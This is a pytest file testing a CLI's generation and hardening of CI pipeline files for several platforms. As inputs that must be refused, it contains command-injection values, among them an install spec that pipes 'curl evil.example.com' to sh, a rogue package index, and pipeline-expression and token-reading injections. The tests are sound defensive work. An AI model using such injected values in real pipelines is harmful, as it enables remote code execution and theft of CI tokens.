"""The files that CI runs: valid by the platforms' schemas, and run as the platforms run them."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from tempfile import NamedTemporaryFile
from typing import Any

import pytest
from check_jsonschema import main as check_jsonschema
from ci_runner import EXPRESSION, Runner, load, scripts
from click.testing import CliRunner

from tpmcli.version import __version__
from world.command import Repository
from world.people import PM, TPM

ROOT = Path(__file__).parents[2]
SCHEMAS = {
    ".github/workflows/tpm.yml": "github-workflows",
    ".github/workflows/tpm-release.yml": "github-workflows",
    ".github/workflows/tpm-review.yml": "github-workflows",
    ".github/workflows/tpm-daily.yml": "github-workflows",
    ".gitlab/tpm.yml": "gitlab-ci",
    ".gitlab-ci.yml": "gitlab-ci",
    ".azure-pipelines/tpm.yml": "azure-pipelines",
}
GITHUB, RELEASE, REVIEW, DAILY = list(SCHEMAS)[:4]
TEMPLATES = ROOT / "src/tpmcli/app/ci_templates"
PLATFORMS = ("github", "gitlab", "azure", "pre-commit")

needs_jq = pytest.mark.skipif(
    shutil.which("jq") is None or shutil.which("bash") is None,
    reason="the scripts are for machines with bash and jq",
)


def validate(schema: str, *files: Path) -> tuple[int, str]:
    """What the platform's schema says of files."""
    words = ["--builtin-schema", f"vendor.{schema}", "--regex-variant", "nonunicode"]
    shown = [str(file) for file in files]
    if schema == "gitlab-ci":
        words += ["--data-transform", schema]
    if schema == "azure-pipelines":
        # To Azure every scalar is text, and so says its schema.
        shown = [_as_texts(file) for file in files]
    done = CliRunner().invoke(check_jsonschema, [*words, *shown])
    return done.exit_code, done.output


def _as_texts(file: Path) -> str:
    text = json.dumps(load(file.read_text(encoding="utf-8")))
    with NamedTemporaryFile("w", suffix=".json", delete=False, encoding="utf-8") as made:
        made.write(text)
    return made.name


@pytest.fixture
def written(project: Repository) -> Repository:
    """A project with the jobs of every platform."""
    for platform in PLATFORMS:
        project.ok("ci", "init", platform)
    return project


def test_what_is_written_is_valid_by_the_schemas_of_the_platforms(written: Repository) -> None:
    made = written.git("ls-files", "--others", "--exclude-standard").split()
    assert sorted(made) == sorted([*SCHEMAS, ".pre-commit-config.yaml"])
    for schema in sorted(set(SCHEMAS.values())):
        files = [written.root / path for path, own in SCHEMAS.items() if own == schema]
        assert validate(schema, *files) == (0, "ok -- validation done\n")
    done = subprocess.run(
        [sys.executable, "-m", "pre_commit", "validate-config", ".pre-commit-config.yaml"],
        cwd=written.root,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout


def test_what_others_use_directly_is_valid() -> None:
    assert validate("github-actions", ROOT / "action.yml")[0] == 0
    done = subprocess.run(
        [sys.executable, "-m", "pre_commit", "validate-manifest", ROOT / ".pre-commit-hooks.yaml"],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout


@pytest.mark.parametrize(("path", "schema"), SCHEMAS.items())
def test_the_schemas_refuse_what_is_broken(written: Repository, path: str, schema: str) -> None:
    file = written.root / path
    text = file.read_text(encoding="utf-8")
    keys = re.compile(r"^(jobs|tpm gate|stages):", re.MULTILINE)
    broken = keys.sub(r"\1: 7\nx-rest:", text, count=1)
    assert broken != text
    file.write_text(broken, encoding="utf-8")
    assert validate(schema, file)[0] == 1


def test_no_script_has_an_expression_in_it(written: Repository) -> None:
    """What a stranger wrote, such as a branch's name, must never become part of a script."""
    for path in (*(written.root / path for path in SCHEMAS), ROOT / "action.yml"):
        text = path.read_text(encoding="utf-8")
        found = scripts(load(text))
        assert found or path.name == ".gitlab-ci.yml"
        assert not any(EXPRESSION.search(each) or "$(System." in each for each in found)
        assert "github.head_ref" not in text


def test_the_required_job_cannot_be_skipped_and_may_only_read(written: Repository) -> None:
    workflow = load((written.root / GITHUB).read_text(encoding="utf-8"))
    assert list(workflow["on"]) == ["pull_request", "merge_group"]
    assert workflow["on"]["pull_request"]["branches"] == ["main"]
    assert "paths" not in json.dumps(workflow["on"])
    assert workflow["permissions"] == {}
    (job,) = workflow["jobs"].values()
    assert job["permissions"] == {"contents": "read", "pull-requests": "read"}
    assert not {"if", "continue-on-error", "needs"} & job.keys()
    _, checkout, check, *_ = job["steps"]
    assert checkout["with"] == {"fetch-depth": "0", "persist-credentials": "false"}
    assert "if" not in check
    for file in SCHEMAS:
        text = (written.root / file).read_text(encoding="utf-8")
        assert "|| true" not in text
        assert "pull_request_target" not in text


def test_no_other_workflow_makes_a_check_of_the_required_name(written: Repository) -> None:
    names = {}
    for path in (GITHUB, RELEASE, REVIEW, DAILY):
        for job in load((written.root / path).read_text(encoding="utf-8"))["jobs"].values():
            names[job["name"]] = path
    assert len(names) == 4
    assert names["tpm gate"] == GITHUB


def test_the_job_of_gitlab_is_kept_to_protected_branches(written: Repository) -> None:
    job = load((written.root / ".gitlab/tpm.yml").read_text(encoding="utf-8"))["tpm gate"]
    protected = '$CI_MERGE_REQUEST_TARGET_BRANCH_PROTECTED == "true"'
    assert [rule["if"] for rule in job["rules"] if "merge_request" in rule["if"]] == [
        f'$CI_PIPELINE_SOURCE == "merge_request_event" && {protected}'
    ]


@pytest.mark.parametrize(
    ("branches", "written_for"),
    [
        (("refs/heads/setup", "refs/remotes/origin/main"), "main"),
        (("refs/heads/setup", "refs/remotes/origin/master"), "master"),
        (("refs/heads/setup", "refs/heads/main"), "main"),
        (("refs/heads/setup",), "setup"),
    ],
)
def test_the_job_is_for_the_main_branch_whichever_is_checked_out(
    project: Repository, branches: tuple[str, ...], written_for: str
) -> None:
    project.git("checkout", "-q", "-b", "setup")
    for branch in project.git("branch", "--format=%(refname)").split():
        if branch not in branches:
            project.git("update-ref", "-d", branch)
    for ref in branches:
        project.git("update-ref", ref, "HEAD")
    project.ok("ci", "init", "github")
    workflow = load((project.root / GITHUB).read_text(encoding="utf-8"))
    assert workflow["on"]["pull_request"]["branches"] == [written_for]


def _installs(root: Path, path: str) -> list[str]:
    """What the scripts of a file install, requirement by requirement."""
    loaded = load((root / path).read_text(encoding="utf-8"))
    found = loaded[".tpm"]["before_script"] if path == ".gitlab/tpm.yml" else scripts(loaded)
    (script,) = (each for each in found if "/bin/pip" in each)
    words = shlex.split(script.partition("--no-deps")[2].replace("\\\n", " ").partition("\n")[0])
    assert "--no-deps" in script
    return words


@pytest.mark.parametrize(
    "path", [path for path in SCHEMAS if path not in (REVIEW, ".gitlab-ci.yml")]
)
def test_a_job_installs_nothing_but_versions_that_were_tried(
    written: Repository, path: str
) -> None:
    wanted = (TEMPLATES / "requirements.txt").read_text(encoding="utf-8").split()
    assert _installs(written.root, path) == [*wanted, f"tpmcli=={__version__}"]


COMMIT, DIGEST = "0123456789" * 4, "01234567" * 8
SPECS = (
    f"tpmcli @ git+https://git.example.com/acme/tpm@{COMMIT}",
    f"https://files.example.com/tpmcli-1.0.0-py3-none-any.whl#sha256={DIGEST}",
    f"tpmcli @ https://files.example.com/tpmcli-1.0.0-py3-none-any.whl#sha256={DIGEST}",
    "tpmcli==1.0.1",
)


@pytest.mark.parametrize("spec", SPECS)
def test_a_job_installs_from_where_it_is_told(project: Repository, spec: str) -> None:
    for platform in PLATFORMS:
        project.ok("ci", "init", platform, "--install", spec)
    for path in (GITHUB, RELEASE, DAILY, ".gitlab/tpm.yml", ".azure-pipelines/tpm.yml"):
        assert _installs(project.root, path)[-1] == spec
    config = load((project.root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert {tuple(each["additional_dependencies"]) for each in config["repos"][0]["hooks"]} == {
        (spec,)
    }
    assert "not-pinned" not in project.run("doctor").out
    assert validate("github-workflows", project.root / GITHUB)[0] == 0


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("tpmcli", "can change later"),
        ("tpmcli>=1.0", "cannot be written"),
        ("tpmcli~=1.0", "can change later"),
        ("tpmcli @ git+https://git.example.com/acme/tpm@v1.0.0", "can change later"),
        ("tpmcli @ git+https://git.example.com/acme/tpm@" + COMMIT[:10], "can change later"),
        ("https://files.example.com/tpmcli-1.0.0-py3-none-any.whl", "can change later"),
        ("./dist/tpmcli-1.0.0-py3-none-any.whl", "cannot be written"),
        ("--index-url=https://evil.example.com/ tpmcli==1.0.0", "cannot be written"),
        ("tpmcli==1.0.0'; curl evil.example.com | sh; '", "cannot be written"),
        ("tpmcli==1.0.0\n  run: evil", "cannot be written"),
        ("tpmcli==1.0.0${{ github.head_ref }}", "cannot be written"),
        ("tpmcli==1.0.0$(System.AccessToken)", "cannot be written"),
    ],
)
def test_what_may_change_or_become_a_script_is_not_installed(
    project: Repository, spec: str, message: str
) -> None:
    done = project.run("ci", "init", "github", "--install", spec)
    assert (done.code, done.out) == (2, "")
    assert message in done.err
    assert not (project.root / ".github").exists()


def test_a_file_that_is_there_is_never_changed(written: Repository) -> None:
    same = {file: (written.root / file).read_bytes() for file in SCHEMAS}
    for platform in PLATFORMS:
        done = written.run("ci", "init", platform)
        assert (done.code, done.out) == (0, "")
    assert {file: (written.root / file).read_bytes() for file in SCHEMAS} == same
    file = written.root / GITHUB
    release = written.root / RELEASE
    release.unlink()
    text = file.read_text(encoding="utf-8")
    file.write_text(text.replace("timeout-minutes: 15", "timeout-minutes: 9"), encoding="utf-8")
    before = file.read_bytes()
    done = written.run("ci", "init", "github")
    assert done.code == 1
    assert done.out.startswith(f"--- {GITHUB}\n+++ {GITHUB}")
    assert "-    timeout-minutes: 9\n+    timeout-minutes: 15\n" in done.out
    assert file.read_bytes() == before
    assert not release.exists()


def test_a_pipeline_of_gitlab_that_is_there_stays_and_is_told_what_to_include(
    project: Repository,
) -> None:
    own = "stages: [build]\n"
    project.write(".gitlab-ci.yml", own)
    done = project.ok("ci", "init", "gitlab")
    assert "include: [{local: .gitlab/tpm.yml}]" in done.err
    assert (project.root / ".gitlab-ci.yml").read_text(encoding="utf-8") == own


def test_an_unknown_platform_is_usage_and_writes_nothing(repository: Repository) -> None:
    done = repository.run("ci", "init", "githob")
    assert (done.code, done.out) == (2, "")
    assert "  help: did you mean `github`?\n" in done.err
    done = repository.run("init", "--yes", "--ci", "azre")
    assert done.code == 2
    assert not (repository.root / ".tpm").exists()


def test_init_writes_the_job_too(repository: Repository) -> None:
    repository.init("--ci", "github")
    assert (repository.root / GITHUB).is_file()
    assert (repository.root / ".tpm/policy.yaml").is_file()


def test_a_project_further_down_is_named_in_every_job(make_repository: Any) -> None:
    repository: Repository = make_repository("many")
    folder = "apps/it's a: ledger"
    (repository.root / folder).mkdir(parents=True)
    repository.ok("-C", folder, "init", "--name", "X", "--tpm", TPM, "--pm", PM)
    for platform in PLATFORMS:
        repository.ok("-C", folder, "ci", "init", platform)
    for path in SCHEMAS:
        found = scripts(load((repository.root / path).read_text(encoding="utf-8")))
        for script in found:
            called = re.findall(r"^ *tpm .*", script, re.MULTILINE)
            assert all("-C 'apps/it'\"'\"'s a: ledger' " in call for call in called), path
    assert validate("github-workflows", repository.root / GITHUB)[0] == 0
    config = load((repository.root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    hook = config["repos"][0]["hooks"][0]
    assert re.search(hook["files"], f"{folder}/.tpm/policy.yaml")
    assert not re.search(hook["files"], ".tpm/policy.yaml")


# The scripts themselves, as GitHub runs them.


class PullRequest:
    """A clone with a pull request, on a runner, before and after reviews."""

    def __init__(self, folder: Path, project: Repository, command: list[str]) -> None:
        project.git("branch", "-q", "-M", "main")
        self.clone = Repository(folder / "clone", command)
        self.clone.git("remote", "add", "origin", str(project.root))
        self.clone.git("fetch", "-q", "origin")
        self.clone.git("checkout", "-q", "-B", "change", "origin/main")
        self.runner = Runner(folder / "runner", self.clone.root)
        self.project = project

    def offer(self) -> str:
        """Commits the change and offers it to main; the commit."""
        self.clone.commit("change")
        head = self.clone.git("rev-parse", "HEAD").strip()
        self.clone.git("push", "-q", "origin", "+HEAD:refs/pull/7/head")
        return head

    def event(self, name: str, head: str) -> dict[str, str]:
        return {
            "github.event_name": name,
            "github.event.pull_request.number": "7",
            "github.event.pull_request.base.ref": "main",
            "github.event.pull_request.head.sha": head,
        }

    def queued(self, spoil: str = "") -> dict[str, str]:
        """The queue squashes the pull request onto main; `spoil` is a file that it then lacks."""
        base = self.project.git("rev-parse", "main").strip()
        self.clone.git("checkout", "-q", "--detach", base)
        self.clone.git("merge", "-q", "--squash", "change")
        if spoil:
            self.clone.git("rm", "-q", "-f", spoil)
        self.clone.commit("squashed by the queue")
        queue = self.clone.git("rev-parse", "HEAD").strip()
        self.clone.git("checkout", "-q", "change")
        return {
            "github.event_name": "merge_group",
            "github.event.merge_group.base_sha": base,
            "github.event.merge_group.head_sha": queue,
            "github.event.merge_group.head_ref": f"refs/heads/gh-readonly-queue/main/pr-7-{base}",
        }


def _step(path: Path) -> Any:
    """The step that judges, of a workflow or an action."""
    loaded = load(path.read_text(encoding="utf-8"))
    steps = loaded["runs"]["steps"] if "runs" in loaded else loaded["jobs"]["gate"]["steps"]
    return next(step for step in steps if step.get("name") == "Check the gates")


@pytest.fixture(params=["workflow", "action"])
def judging(request: pytest.FixtureRequest, project: Repository) -> Any:
    """The step that judges; the project's main has been set up and has one gate to sign."""
    policy = project.root / ".tpm/policy.yaml"
    text = policy.read_text(encoding="utf-8").replace("identity: author", "identity: platform")
    text = text.replace(
        "aliases: {}",
        f'aliases: {{{PM}: ["github:pat"], {TPM}: ["github:tom"]}}',
    )
    assert "identity: platform" in text
    assert "github:pat" in text
    policy.write_text(text, encoding="utf-8")
    project.answer_all("feasibility")
    project.ok("ci", "init", "github")
    project.commit("ready to sign")
    if request.param == "action":
        return _step(ROOT / "action.yml")
    return _step(project.root / GITHUB)


@needs_jq
def test_a_product_manager_signs_by_approving(
    judging: Any, project: Repository, command: list[str], tmp_path: Path
) -> None:
    pull = PullRequest(tmp_path, project, command)
    pull.clone.ok("sign", "feasibility", "--role", "pm", "--as", TPM, "--for", PM)
    head = pull.offer()
    before = pull.runner.github(judging, pull.event("pull_request", head))
    assert before.code == 1, before
    assert before.out.startswith("Waiting for the PM to approve")
    assert "\n::error " in before.out
    assert pull.runner.asked.read_text() == "repos/someone/ledger/pulls/7/reviews\n"
    reviews: list[dict[str, Any]] = [
        {"user": {"login": "Pat"}, "commit_id": head, "state": "APPROVED", "body": "$(exit 9)"},
        {"user": None, "commit_id": head, "state": "APPROVED"},
        {"user": {"login": "eve"}, "commit_id": None, "state": "APPROVED"},
    ]
    pull.runner.reviews.write_text(json.dumps(reviews))
    # A review runs the job again, with the event that it had.
    for event in (pull.event("pull_request", head), pull.queued()):
        after = pull.runner.github(judging, event)
        assert after.code == 0, after
    # What the queue merges is judged, and not what the pull request's head would give.
    spoilt = pull.runner.github(judging, pull.queued(spoil=".tpm/project.yaml"))
    assert spoilt.code == 1, spoilt
    assert "project-removed" in spoilt.out
    for name in ("gate.xml", "gate.sarif", "gate.md", "approvals.json"):
        assert (pull.runner.temp / "tpm" / name).stat().st_size > 2
    reviews.append({"user": {"login": "Pat"}, "commit_id": head, "state": "CHANGES_REQUESTED"})
    pull.runner.reviews.write_text(json.dumps(reviews))
    assert pull.runner.github(judging, pull.event("pull_request", head)).code == 1


@needs_jq
@pytest.mark.parametrize(
    "event", ["pull_request_review", "push", "workflow_dispatch", "schedule", "workflow_call", ""]
)
def test_the_required_job_passes_for_no_event_without_a_base_of_its_own(
    project: Repository, command: list[str], tmp_path: Path, event: str
) -> None:
    project.ok("ci", "init", "github")
    project.commit("jobs")
    pull = PullRequest(tmp_path, project, command)
    pull.clone.write("src/code.py", "print(1)\n")
    head = pull.offer()
    done = pull.runner.github(_step(project.root / GITHUB), pull.event(event, head))
    assert done.code == 3
    assert f"not the event {event}\n" in done.out


def _run(number: int, status: str, *pulls: int) -> dict[str, Any]:
    return {"id": number, "status": status, "pull_requests": [{"number": each} for each in pulls]}


RUNS = "repos/someone/ledger/actions/workflows/tpm.yml/runs?event=pull_request&head_sha=abc"
RERUN = "POST repos/someone/ledger/actions/runs/{}/rerun"


@needs_jq
@pytest.mark.parametrize(
    ("answers", "asked"),
    [
        ([[_run(3, "completed", 7), _run(2, "completed", 7)]], [RUNS, RERUN.format(3)]),
        # One of another pull request of the same commit, and one of a fork, which names none.
        ([[_run(4, "completed", 8), _run(2, "completed")]], [RUNS, RERUN.format(2)]),
        # One that is under way is waited for.
        (
            [[_run(5, "in_progress", 7)], [_run(5, "completed", 7)]],
            [RUNS, RUNS, RERUN.format(5)],
        ),
        # A pull request into another branch was not judged, and is not judged now.
        ([[_run(4, "completed", 8)]], [RUNS]),
        ([[]], [RUNS]),
    ],
)
def test_a_review_runs_the_job_again_and_judges_nothing(
    project: Repository,
    command: list[str],
    tmp_path: Path,
    answers: list[list[dict[str, Any]]],
    asked: list[str],
) -> None:
    project.ok("ci", "init", "github")
    project.commit("jobs")
    pull = PullRequest(tmp_path, project, command)
    workflow = load((project.root / REVIEW).read_text(encoding="utf-8"))
    (job,) = workflow["jobs"].values()
    assert job["permissions"] == {"actions": "write"}
    assert all("uses" not in step and "gate check" not in step["run"] for step in job["steps"])
    sleep = pull.runner.programs / "sleep"
    sleep.write_text("#!/bin/sh\n")
    sleep.chmod(0o755)
    told = "".join(json.dumps({"workflow_runs": runs}) + "\n" for runs in answers)
    pull.runner.reviews.write_text(told)
    (step,) = job["steps"]
    done = pull.runner.github(step, pull.event("pull_request_review", "abc"))
    assert done.code == 0, done
    assert pull.runner.asked.read_text().splitlines() == asked


@needs_jq
def test_trouble_with_the_platform_is_never_a_pass(
    judging: Any, project: Repository, command: list[str], tmp_path: Path
) -> None:
    pull = PullRequest(tmp_path, project, command)
    pull.clone.write("src/code.py", "print(1)\n")
    head = pull.offer()
    assert pull.runner.github(judging, pull.event("pull_request", head)).code == 0
    pull.runner.reviews.write_text("<html>502</html>")
    assert pull.runner.github(judging, pull.event("pull_request", head)).code != 0
    pull.runner.reviews.write_text("[]")
    queued = {**pull.queued(), "github.event.merge_group.head_ref": "refs/heads/main"}
    assert pull.runner.github(judging, queued).code == 3
    unknown = pull.runner.github(judging, pull.event("pull_request", "0" * 40))
    assert unknown.code == 3


def collected(project: Repository, report: Path) -> list[str]:
    """The state of each project in the report of a job, as `tpm portfolio` reads it."""
    folder = report.parent.parent / "collected"
    folder.mkdir(exist_ok=True)
    shutil.copyfile(report, folder / "gate.json")
    rows = project.run("portfolio", "--from", str(folder), "--format", "json").json["projects"]
    return [row["state"] for row in rows]


@needs_jq
def test_the_daily_run_asks_what_was_decided(
    judging: Any, project: Repository, command: list[str], tmp_path: Path
) -> None:
    pull = PullRequest(tmp_path, project, command)
    if "THROUGH" not in judging["env"]:
        (judging,) = (
            step
            for step in load((project.root / DAILY).read_text())["jobs"]["daily"]["steps"]
            if step.get("name") == "Check all decisions"
        )
    daily = pull.runner.github(judging, {"github.event_name": "schedule"})
    assert daily.code == 0, daily
    assert pull.runner.asked.read_text() == ""
    assert collected(project, pull.runner.temp / "tpm/gate.json") == ["unmet"]
    project.sign_both("feasibility")
    project.ok("gate", "decide", "feasibility", "go", "--reason", "on", "--as", PM)
    (project.root / "docs/evidence.md").unlink()
    project.commit("lose the evidence")
    pull.clone.git("fetch", "-q", "origin")
    pull.clone.git("checkout", "-q", "-B", "main", "origin/main")
    assert pull.runner.github(judging, {"github.event_name": "schedule"}).code == 1
    assert collected(project, pull.runner.temp / "tpm/gate.json") == ["no-longer-holds"]


@needs_jq
def test_a_deployment_asks_for_the_increment_of_its_tag(
    project: Repository, command: list[str], tmp_path: Path
) -> None:
    project.ok("ci", "init", "github")
    project.commit("jobs")
    pull = PullRequest(tmp_path, project, command)
    workflow = load((project.root / RELEASE).read_text(encoding="utf-8"))
    step = workflow["jobs"]["release"]["steps"][-1]
    said = "inputs.tag || github.ref_name"
    assert pull.runner.github(step, {said: "v1.0"}).code == 1
    assert pull.runner.github(step, {said: "v9.9"}).code == 3
    assert pull.runner.github(step, {said: "v$(touch evil)"}).code == 3
    assert not (pull.clone.root / "evil").exists()


def test_at_the_top_of_several_projects_each_is_judged(
    project: Repository, command: list[str], tmp_path: Path
) -> None:
    for folder in ("svc", "my web"):
        (project.root / folder).mkdir()
        shutil.copytree(project.root / ".tpm", project.root / folder / ".tpm")
    project.git("rm", "-rqf", ".tpm")
    project.git("add", "-A")
    project.commit("two projects")
    for platform in PLATFORMS:
        project.ok("ci", "init", platform)
        jobs = [path for path, own in SCHEMAS.items() if own.startswith(platform)]
        for path in [*jobs, ".pre-commit-config.yaml"] if platform == "pre-commit" else jobs:
            text = (project.root / path).read_text(encoding="utf-8")
            assert text.count("gate check") == text.count("gate check --all-projects"), path
    for schema in sorted(set(SCHEMAS.values())):
        files = [project.root / path for path, own in SCHEMAS.items() if own == schema]
        assert validate(schema, *files)[0] == 0
    (lint,) = (
        step
        for step in load((project.root / DAILY).read_text())["jobs"]["daily"]["steps"]
        if step.get("name") == "Validate the tpm files"
    )
    project.commit("jobs")
    pull = PullRequest(tmp_path, project, command)
    assert pull.runner.github(lint, {}).code == 0
    for folder in (".", "svc"):
        found = project.run("-C", folder, "doctor", "--format", "json")
        assert "no-gate-job" not in found.out


@needs_jq
def test_the_action_finds_a_project_wherever_it_is(
    project: Repository, command: list[str], tmp_path: Path
) -> None:
    pull = PullRequest(tmp_path, project, command)
    action = load((ROOT / "action.yml").read_text(encoding="utf-8"))
    inputs = {f"inputs.{name}": each["default"] for name, each in action["inputs"].items()}
    assert inputs["inputs.all-projects"] == "true"
    step = next(each for each in action["runs"]["steps"] if each.get("id") == "check")
    event = {**inputs, "github.event_name": "schedule", "inputs.allow-no-project": "true"}
    assert "has no .tpm/" not in pull.runner.github(step, event).out
    for spelled in ("svc/.tpm", "svc/.TPM"):
        pull.clone.git("rm", "-rqf", "--cached", "--ignore-unmatch", ".tpm", "svc")
        shutil.rmtree(pull.clone.root / ".tpm", ignore_errors=True)
        pull.clone.write(f"{spelled}/project.yaml", "schema: tpm/project/1\n")
        found = pull.runner.github(step, event)
        assert (found.code, "has no .tpm/" in found.out) == (3, False), found
    pull.clone.git("rm", "-rqf", "svc")
    none = pull.runner.github(step, event)
    assert (none.code, "has no .tpm/" in none.out) == (0, True)
    # What git does not say is not "nothing".
    git = pull.runner.programs / "git"
    git.write_text("#!/bin/sh\nexit 128\n")
    git.chmod(0o755)
    assert pull.runner.github(step, event).code == 128


def _azure_script(project: Repository) -> str:
    project.ok("ci", "init", "azure")
    pipeline = load((project.root / ".azure-pipelines/tpm.yml").read_text(encoding="utf-8"))
    steps = pipeline["jobs"][0]["steps"]
    return str(next(s["bash"] for s in steps if s.get("displayName") == "Check the gates"))


@needs_jq
def test_azure_compares_with_the_target_branch_and_asks_who_approved(
    project: Repository, command: list[str], tmp_path: Path
) -> None:
    script = _azure_script(project)
    project.commit("jobs")
    pull = PullRequest(tmp_path, project, command)
    pull.clone.write("src/code.py", "print(1)\n")
    head = pull.offer()
    curl = pull.runner.programs / "curl"
    votes = {"value": [{"uniqueName": PM, "vote": 10}, {"uniqueName": TPM, "vote": 5}]}
    curl.write_text(f"#!/bin/sh\necho '{json.dumps(votes)}'\n")
    curl.chmod(0o755)
    env = {
        "AGENT_TEMPDIRECTORY": str(pull.runner.temp),
        "BUILD_REASON": "PullRequest",
        "BUILD_REPOSITORY_PROVIDER": "TfsGit",
        "BUILD_REPOSITORY_ID": "r",
        "SYSTEM_PULLREQUEST_TARGETBRANCH": "refs/heads/main",
        "SYSTEM_PULLREQUEST_SOURCECOMMITID": head,
        "SYSTEM_PULLREQUEST_PULLREQUESTID": "7",
        "SYSTEM_COLLECTIONURI": "https://example.com/",
        "SYSTEM_TEAMPROJECTID": "p",
        "SYSTEM_ACCESSTOKEN": "t",
    }
    done = pull.runner.bash(script, env)
    assert done.code == 0, done
    approvals = json.loads((pull.runner.temp / "tpm/approvals.json").read_text())
    assert approvals == [{"login": f"azure:{PM}", "commit": head, "state": "APPROVED"}]
    tagged = {**env, "BUILD_REASON": "IndividualCI", "BUILD_SOURCEBRANCH": "refs/tags/v9.9"}
    assert pull.runner.bash(script, tagged).code == 3
    daily = {**env, "BUILD_REASON": "Schedule", "BUILD_SOURCEBRANCH": "refs/heads/main"}
    assert pull.runner.bash(script, daily).code == 0
    assert collected(project, pull.runner.temp / "tpm/gate.json") == ["unmet"]
    # By hand on the branch of the pull request: nothing would be compared.
    by_hand = {**env, "BUILD_REASON": "Manual", "BUILD_SOURCEBRANCH": "refs/heads/change"}
    assert pull.runner.bash(script, by_hand).code == 3


def test_gitlab_compares_with_the_target_branch_and_asks_who_approved(
    project: Repository, command: list[str], tmp_path: Path
) -> None:
    project.ok("ci", "init", "gitlab")
    project.commit("jobs")
    job = load((project.root / ".gitlab/tpm.yml").read_text(encoding="utf-8"))["tpm gate"]
    assert all("changes" not in rule and "when" not in rule for rule in job["rules"])
    pull = PullRequest(tmp_path, project, command)
    pull.clone.write("src/code.py", "print(1)\n")
    head = pull.offer()
    curl = pull.runner.programs / "curl"
    curl.write_text('#!/bin/sh\necho \'{"approved_by": [{"user": {"username": "pat"}}]}\'\n')
    curl.chmod(0o755)
    env = {
        "CI_MERGE_REQUEST_IID": "7",
        "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
        "CI_COMMIT_SHA": head,
        "TPM_READ_TOKEN": "secret",
        "CI_API_V4_URL": "https://example.com/api/v4",
        "CI_PROJECT_ID": "1",
    }
    done = pull.runner.bash(job["script"][0], env)
    assert done.code == 0, done
    approvals = json.loads((pull.clone.root / "tpm-approvals.json").read_text())
    assert approvals == [{"login": "gitlab:pat", "commit": head, "state": "APPROVED"}]
    assert pull.runner.bash(job["script"][0], {}).code == 0
    assert "tpm-gate.json" in job["artifacts"]["paths"]
    assert collected(project, pull.clone.root / "tpm-gate.json") == ["unmet"]
    assert pull.runner.bash(job["script"][1], {}).code == 0


def test_docs_name_every_platform(written: Repository, make_repository: Callable[..., Any]) -> None:
    page = (ROOT / "docs/ci.md").read_text(encoding="utf-8")
    for platform in PLATFORMS:
        assert f"tpm ci init {platform}" in page
